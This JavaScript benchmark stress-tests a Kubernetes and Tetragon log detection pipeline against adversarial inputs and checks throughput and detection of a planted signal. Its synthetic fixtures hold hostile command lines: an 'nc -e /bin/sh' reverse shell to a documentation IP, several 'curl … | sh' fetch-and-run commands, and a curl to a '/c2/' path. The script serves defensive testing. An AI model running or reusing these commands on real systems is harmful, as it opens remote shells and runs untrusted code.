// `npm run bench:worst`: the hostile inputs found so far, each a batch of about 1 MB of log messages
// plus one victim reverse shell, through the pipeline and the SNS renderer as the Lambda runs them
// (the same esbuild bundle options). Prints the time per MB of message text for each; the target is
// no input over 2 s/MB, and the victim's signal must be produced every time.
import { mkdirSync } from "node:fs";
import { join, resolve } from "node:path";
import { pathToFileURL } from "node:url";
import { build } from "esbuild";
import { common } from "../scripts/build.mjs";

const root = resolve(new URL("..", import.meta.url).pathname);
const data = join(root, "bench/.data");
const rounds = Number(process.env.BENCH_ROUNDS ?? 3);
const TARGET_S_PER_MB = 2;
const MB = 1_000_000;
mkdirSync(data, { recursive: true });

const entry = join(root, "src/pipeline.ts");
const outfile = join(data, "worst-case-pipeline.mjs");
await build({
  ...common,
  stdin: {
    contents: [
      `export { processBatch } from ${JSON.stringify(entry)};`,
      `export { renderSnsMessage } from ${JSON.stringify(join(root, "src/signals/render.ts"))};`,
      `export { EMPTY_ALLOWLIST } from ${JSON.stringify(join(root, "src/detection/allowlist.ts"))};`,
    ].join("\n"),
    resolveDir: root,
    loader: "ts",
  },
  outfile,
  absWorkingDir: root,
});
const { processBatch, renderSnsMessage, EMPTY_ALLOWLIST } = await import(pathToFileURL(outfile).href);

/** A Tetragon process_exec line (as the JSON export writes it) inside a pod. */
function tetragon(i, binary, args, parentArgs = "") {
  return JSON.stringify({
    process_exec: {
      process: {
        exec_id: Buffer.from(`ip-10-0-12-34:${1_000_000 + i}`).toString("base64"),
        pid: 20_000 + i,
        uid: 0,
        cwd: "/app",
        binary,
        arguments: args,
        pod: {
          namespace: "payments",
          name: "checkout-api-7d9f6c5b8-x2k4q",
          container: {
            id: "containerd://6f1c2e0b9a8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b",
            name: "checkout-api",
            image: { name: "123456789012.dkr.ecr.us-east-1.amazonaws.com/checkout-api:1.42.0" },
          },
        },
      },
      parent: { binary: "/bin/sh", arguments: parentArgs, pid: 19_000 },
    },
    node_name: "ip-10-0-12-34.ec2.internal",
    time: new Date(Date.UTC(2026, 10, 28, 10) + i).toISOString(),
  });
}

/** A Kubernetes audit record of `kubectl exec … -- sh -c CMD`. */
function execAudit(i, command) {
  return JSON.stringify({
    kind: "Event",
    apiVersion: "audit.k8s.io/v1",
    level: "Metadata",
    auditID: `7c1f0a2e-0000-4000-8000-${String(i).padStart(12, "0")}`,
    stage: "ResponseStarted",
    requestURI: `/api/v1/namespaces/payments/pods/api-1/exec?command=sh&command=-c&command=${encodeURIComponent(command)}&container=api&stdout=true`,
    verb: "create",
    user: { username: "arn:aws:sts::123456789012:assumed-role/eks-developer/mallory" },
    sourceIPs: ["198.51.100.7"],
    objectRef: { resource: "pods", namespace: "payments", name: "api-1", subresource: "exec" },
    responseStatus: { code: 101 },
    requestReceivedTimestamp: "2026-11-28T10:00:00.000000Z",
  });
}

/** `unit` repeated to `chars` characters. */
const fill = (unit, chars) => unit.repeat(Math.ceil(chars / unit.length)).slice(0, chars);
const JWT =
  "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkFsaWNlIn0.c2lnbmF0dXJlLXNpZ25hdHVyZQ ";
const CONTROL = "\x01\x02\x1b\x7f\x9b\x00 a\x1b[31m\x07 ";
const INVISIBLE = "c\u034fu\ufe0fr\u{e0100}l\u17b4 \u180b\u200d\u2066 ";

/**
 * Each input: a name and a function giving the message of log event `i` of `chars` characters.
 * Shapes: many distinct events (each becomes its own signal) and a few large ones.
 */
const INPUTS = [
  [
    "control characters, 1 KB args × 1000",
    1000,
    (i, n) => tetragon(i, "/usr/bin/curl", `${fill(CONTROL, n)} u${i}`),
  ],
  [
    "control characters, 250 KB args × 4",
    250_000,
    (i, n) => tetragon(i, "/usr/bin/curl", `${fill(CONTROL, n)} u${i}`),
  ],
  ["JWT-like args, 1 KB × 1000", 1000, (i, n) => tetragon(i, "/usr/bin/curl", `${fill(JWT, n)} u${i}`)],
  ["JWT-like args, 250 KB × 4", 250_000, (i, n) => tetragon(i, "/usr/bin/curl", `${fill(JWT, n)} u${i}`)],
  [
    "JWT-like in sh -c, 250 KB × 4",
    250_000,
    (i, n) => tetragon(i, "/usr/bin/curl", "-s http://x", `-c "curl ${fill(JWT, n)} | sh"`),
  ],
  [
    "invisible characters, 1 KB × 1000",
    1000,
    (i, n) => tetragon(i, "/usr/bin/curl", `${fill(INVISIBLE, n)} u${i}`),
  ],
  [
    "3,000 padding headers before the URL",
    250_000,
    (i, n) =>
      tetragon(i, "/usr/bin/curl", `${fill("-H 'X-Pad: aaaaaaaaaaaaaaaa' ", n)} http://203.0.113.9/c2/${i}`),
  ],
  [
    "quoted pieces 'a'\"b\", 250 KB × 4",
    250_000,
    (i, n) => tetragon(i, "/usr/bin/curl", "-s http://x", `-c "curl -H ${fill(`'a'"b"`, n)}"`),
  ],
  [
    "sshpass -p x repeated in sh -c, 250 KB × 4",
    250_000,
    (i, n) => tetragon(i, "/usr/bin/curl", "-s http://x", `-c "sshpass ${fill("-p x ", n)}"`),
  ],
  [
    'password=" repeated in sh -c, 250 KB × 4',
    250_000,
    (i, n) => tetragon(i, "/usr/bin/curl", "-s http://x", `-c "curl ${fill('password="', n)}"`),
  ],
  [
    "exec session padded with dig, 250 KB × 4",
    250_000,
    (i, n) => execAudit(i, `${fill("dig +short example.com; ", n)}curl -s http://203.0.113.7/${i} | sh`),
  ],
  [
    "exec session nesting sh -c, 250 KB × 4",
    250_000,
    (i, n) => execAudit(i, `${fill("sh -c '", n / 2)}curl http://203.0.113.7/${i} | sh`),
  ],
  [
    "exec session, control characters, 1 KB × 1000",
    1000,
    (i, n) => execAudit(i, `curl ${fill(CONTROL, n)} ${i}`),
  ],
];

const VICTIM = tetragon(999_999, "/tmp/nc", "-e /bin/sh 198.51.100.23 4444");

function batchOf(message, per) {
  const logEvents = [];
  let bytes = 0;
  for (let i = 0; bytes < MB; i++) {
    const text = message(i, per);
    bytes += Buffer.byteLength(text);
    logEvents.push({ id: String(i + 1), timestamp: Date.UTC(2026, 10, 28, 10) + i, message: text });
  }
  logEvents.push({ id: "victim", timestamp: Date.UTC(2026, 10, 28, 11), message: VICTIM });
  bytes += Buffer.byteLength(VICTIM);
  return {
    bytes,
    batch: {
      owner: "123456789012",
      logGroup: "/aws/containerinsights/prod-eks/tetragon",
      logStream: "ip-10-0-12-34.ec2.internal",
      subscriptionFilters: ["netutil-detector"],
      logEvents,
    },
  };
}

let worst = 0;
let failed = false;
console.log(`worst-case inputs (median of ${rounds}), target ≤ ${TARGET_S_PER_MB} s/MB of message text`);
for (const [name, per, message] of INPUTS) {
  const { batch, bytes } = batchOf(message, per);
  const times = [];
  let signals = [];
  for (let r = 0; r < rounds; r++) {
    const start = process.hrtime.bigint();
    ({ signals } = processBatch(batch, {
      minSeverity: "low",
      allowlist: EMPTY_ALLOWLIST,
      region: "us-east-1",
    }));
    for (const signal of signals) renderSnsMessage(signal);
    times.push(Number(process.hrtime.bigint() - start) / 1e9);
  }
  const median = times.sort((a, b) => a - b)[Math.floor(times.length / 2)];
  const perMb = median / (bytes / MB);
  worst = Math.max(worst, perMb);
  const victim = signals.some((s) => s.process.name === "nc");
  if (!victim || perMb > TARGET_S_PER_MB) failed = true;
  console.log(
    `${name.padEnd(48)} ${(bytes / MB).toFixed(2).padStart(5)} MB  ${perMb.toFixed(3).padStart(6)} s/MB  ${String(signals.length).padStart(5)} signals  victim ${victim ? "found" : "MISSING"}`,
  );
}
console.log(`worst: ${worst.toFixed(3)} s/MB`);
if (failed) {
  console.error("bench:worst: an input is over the target or lost the victim's signal");
  process.exit(1);
}
